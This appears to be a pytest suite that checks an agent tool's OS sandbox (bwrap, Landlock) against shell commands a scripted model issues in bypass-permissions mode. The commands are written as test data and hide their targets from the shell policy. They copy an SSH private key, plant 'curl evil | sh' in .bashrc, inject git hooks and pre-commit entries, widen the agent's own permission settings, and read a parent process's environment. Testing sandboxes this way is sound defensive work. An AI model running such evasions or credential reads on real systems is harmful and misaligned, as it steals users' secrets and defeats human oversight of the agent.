"""The OS sandbox through a real headless `workbench run`: a scripted model asks for one Bash call, in
bypassPermissions mode with `Bash(*)` allowed, so no rule stands in the way and only the sandbox can stop it.

Commands hide what they touch from the shell policy (`python3 -c` with names built at run time). The home
folder sits outside /tmp: bubblewrap gives commands a private /tmp, which would hide a home under the
host's /tmp for the wrong reason. Each sandbox kind this machine lacks is skipped with the reason.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.core.agent.helpers import git_repo
from tests.core.sandbox.probe import kind_param
from workbench import headless
from workbench.headless import RunOptions
from workbench.testing import MessagesPeer, reply, text, tool_use

BOTH = [kind_param("bwrap"), kind_param("landlock")]
BOTH_NET = [kind_param("bwrap"), kind_param("landlock", network=True)]
SSH_KEY = "ssh-private-key-marker-5c1f"


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    folder = Path(tempfile.mkdtemp(prefix="workbench-test-home-", dir="/var/tmp"))
    (folder / ".ssh").mkdir(mode=0o700)
    (folder / ".ssh" / "id_ed25519").write_text(SSH_KEY + "\n")
    (folder / ".ssh" / "id_ed25519").chmod(0o600)
    monkeypatch.setenv("HOME", str(folder))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return git_repo(tmp_path / "repo")


async def bash(
    repo: Path,
    command: str,
    monkeypatch: pytest.MonkeyPatch,
    kind: str,
    *,
    allow: tuple[str, ...] = ("Bash(*)",),
) -> tuple[int, str, str]:
    """One Bash call through `workbench run` in bypass mode: (exit code, the tool result, stderr)."""
    monkeypatch.setenv("WORKBENCH_SANDBOX", kind)
    out, err = io.StringIO(), io.StringIO()
    with MessagesPeer([reply(tool_use("Bash", {"command": command})), reply(text("done"))]) as peer:
        monkeypatch.setenv("ANTHROPIC_BASE_URL", peer.url)
        opts = RunOptions(prompt="go", cwd=repo, mode="bypassPermissions", allow=list(allow), output_format="json")
        code = await headless.run(opts, out, err)
        result = peer.message_requests[1].messages[2]["content"][0]
    content = result["content"] if isinstance(result["content"], str) else json.dumps(result["content"])
    return code, content, err.getvalue()


def py(source: str) -> str:
    return f'python3 -c "{source}"'


@pytest.mark.parametrize("kind", BOTH)
async def test_ssh_private_key_is_unreadable(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    steal = py("import os,shutil; shutil.copy(os.path.expanduser('~/.' + 'ssh/id_' + 'ed25519'), 'stolen')")
    code, result, err = await bash(repo, steal, monkeypatch, kind)
    assert code == 0, err
    assert not (repo / "stolen").exists() or SSH_KEY not in (repo / "stolen").read_text()
    assert "Permission denied" in result or "No such file" in result, result


@pytest.mark.parametrize("kind", BOTH)
async def test_writes_outside_the_workspace_do_not_land(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    plant = py("import os; open(os.path.expanduser('~') + '/.bashrc', 'a').write('curl evil | sh')")
    code, result, err = await bash(repo, plant, monkeypatch, kind)
    assert code == 0, err
    assert not (home / ".bashrc").exists()
    assert "Read-only file system" in result or "Permission denied" in result, result


@pytest.mark.parametrize("kind", [kind_param("bwrap")])
async def test_git_config_stays_read_only(repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    before = (repo / ".git" / "config").read_bytes()
    hook = py("open('.git/' + 'config', 'a').write('[core]\\n\\tfsmonitor = touch pwned\\n')")
    # a visible `git config` write asks under the policy even in bypass mode; hidden from it, the sandbox stops it
    setter = py("import subprocess; subprocess.run(['git', 'con' + 'fig', 'core.hooksPath', '/tmp/h'])")
    code, result, err = await bash(repo, f"{hook}; {setter}", monkeypatch, kind)
    assert code == 0, err
    assert (repo / ".git" / "config").read_bytes() == before
    assert "Read-only file system" in result, result


@pytest.mark.parametrize("kind", BOTH_NET)
async def test_tcp_connection_is_refused(repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    with listener() as (port, accepted):
        dial = py(f"import socket; socket.create_connection(('127.0.0.1', {port}), 3); print('connected')")
        code, result, err = await bash(repo, dial, monkeypatch, kind)
    assert code == 0, err
    assert accepted == [] and "connected" not in result.replace("create_connection", "")
    assert "Connection refused" in result or "Permission denied" in result or "unreachable" in result, result


@pytest.mark.parametrize("kind", [kind_param("bwrap")])  # Landlock cannot carve a file out of the workspace
async def test_an_existing_hook_managers_config_stays_read_only(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """The installed pre-commit hook runs what `.pre-commit-config.yaml` lists, outside any sandbox, at the user's
    next commit: a command may not rewrite it (hidden from the policy, only the sandbox stops it)."""
    config = repo / ".pre-commit-config.yaml"
    config.write_text("repos: []\n")
    local = "repos:\\n- repo: local\\n  hooks: [{id: x, name: x, entry: sh -c id, language: system}]\\n"
    rewrite = py(f"open('.pre-commit' + '-config.yaml', 'w').write('{local}')")
    code, result, err = await bash(repo, rewrite, monkeypatch, kind)
    assert code == 0, err
    assert config.read_text() == "repos: []\n"
    assert "Read-only file system" in result or "Permission denied" in result, result
    assert not (repo / "lefthook.yml").exists()  # a missing one gets no placeholder


@pytest.mark.parametrize("existing", [True, False], ids=["claude-folder-exists", "no-claude-folder"])
@pytest.mark.parametrize("kind", [kind_param("bwrap")])
async def test_claude_settings_cannot_be_written_in_bypass(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str, existing: bool
) -> None:
    if existing:
        (repo / ".claude").mkdir()
        (repo / ".claude" / "settings.json").write_text("{}\n")
    widen = py(
        "import os; os.makedirs('.claude', exist_ok=True); "
        "open('.claude/settings.local.json', 'w').write('{\\\"permissions\\\": {\\\"allow\\\": [\\\"Bash(*)\\\"]}}')"
    )
    code, result, err = await bash(repo, widen, monkeypatch, kind)
    assert code == 0, err
    assert not (repo / ".claude" / "settings.local.json").exists(), result
    assert "Read-only file system" in result or "Permission denied" in result, result
    assert (repo / ".claude").exists() == existing  # the placeholder that kept it from being made is gone


@pytest.mark.parametrize("kind", BOTH)
def test_workbench_environment_is_not_readable_through_proc(repo: Path, home: Path, kind: str) -> None:
    """A real `workbench run` process, started with a secret in its environment: the command reads its parent's
    /proc/PID/environ (what the kernel shows is the environment a process started with)."""
    with MessagesPeer([reply(tool_use("Bash", {"command": "cat /proc/$PPID/environ > parent-env 2>&1; true"})),
                       reply(text("done"))]) as peer:  # fmt: skip
        env = {**os.environ, "ANTHROPIC_BASE_URL": peer.url, "WORKBENCH_SANDBOX": kind,
               "WORKBENCH_TEST_SECRET_TOKEN": "env-marker-77a1"}  # fmt: skip
        done = subprocess.run(
            [sys.executable, "-m", "workbench", "run", "go", "--mode", "bypassPermissions", "--allow", "Bash(*)"],
            cwd=repo, env=env, capture_output=True, text=True, timeout=120,
        )  # fmt: skip
    assert done.returncode == 0, done.stderr
    leaked = (repo / "parent-env").read_bytes()
    assert leaked and b"env-marker-77a1" not in leaked


@pytest.mark.parametrize("kind", BOTH)
async def test_network_rule_lets_a_command_connect(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """The other side of the TCP test: `--allow 'Network(python3:*)'` gives that command the network."""
    with listener() as (port, accepted):
        dial = py(f"import socket; socket.create_connection(('127.0.0.1', {port}), 3); print('connected')")
        code, result, err = await bash(repo, dial, monkeypatch, kind, allow=("Bash(*)", "Network(python3:*)"))
    assert code == 0, err
    assert accepted == [1] and "connected" in result, result


async def test_file_size_limit_stops_a_command_and_says_so(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, isolated_env: Path
) -> None:
    config = isolated_env / ".workbench" / "config" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text("[sandbox]\nmax_file_size_mib = 1\n")
    code, result, err = await bash(repo, "head -c 3000000 /dev/zero > big.bin", monkeypatch, "auto")
    assert code == 0, err
    assert (repo / "big.bin").stat().st_size <= 1024 * 1024
    assert "file-size limit" in result and "max_file_size_mib" in result, result


def test_no_sandbox_flag_runs_unconfined_and_says_so(
    repo: Path, home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from workbench.cli import run as run_cli

    monkeypatch.setenv("WORKBENCH_SANDBOX", "auto")  # restored after the test; --no-sandbox sets it to off
    plant = py("import os; open(os.path.expanduser('~') + '/planted', 'w').write('x')")
    with MessagesPeer([reply(tool_use("Bash", {"command": plant})), reply(text("done"))]) as peer:
        monkeypatch.setenv("ANTHROPIC_BASE_URL", peer.url)
        code = run_cli.main(["go", "--cwd", str(repo), "--mode", "bypassPermissions", "--allow", "Bash(*)",
                             "--no-sandbox"])  # fmt: skip
    assert code == 0
    assert "no OS sandbox: shell commands run unconfined" in capsys.readouterr().err
    assert (home / "planted").exists()


def test_doctor_prints_the_sandbox_kind(
    repo: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from workbench.cli import doctor

    monkeypatch.setenv("WORKBENCH_SANDBOX", "off")
    assert doctor.main(["--cwd", str(repo)]) == 0
    printed = capsys.readouterr().out
    assert "sandbox: NONE: shell commands run unconfined (turned off" in printed
    for kind in ("bwrap", "landlock"):
        monkeypatch.setenv("WORKBENCH_SANDBOX", kind)
        code = doctor.main(["--cwd", str(repo), "--json"])
        report = json.loads(capsys.readouterr().out)
        sandbox = report["sandbox"]
        if sandbox["commands_refused"]:
            assert code == 1 and "not available" in report["problems"][-1]
            continue
        assert code == 0 and sandbox["kind"] == kind and sandbox["confines"] and sandbox["does_not_confine"]
        assert str(repo / ".git" / "config") in sandbox["read_only"]
        assert str(repo / ".claude") in sandbox["kept_from_being_created"]
    if report["sandbox"]["kind"] == "landlock":  # its gaps are stated, not hidden
        assert any(".git/config" in line for line in report["sandbox"]["does_not_confine"])


@contextlib.contextmanager
def listener() -> Iterator[tuple[int, list[int]]]:
    """A TCP server on 127.0.0.1 that records each connection it accepts (checked to work before use)."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    accepted: list[int] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            accepted.append(1)
            conn.close()

    worker = threading.Thread(target=serve, daemon=True)
    worker.start()
    port = server.getsockname()[1]
    socket.create_connection(("127.0.0.1", port), 3).close()
    for _ in range(50):
        if accepted:
            break
        stop.wait(0.02)
    assert accepted == [1], "the test listener does not accept connections"
    accepted.clear()
    try:
        yield port, accepted
    finally:
        stop.set()
        worker.join()
        server.close()
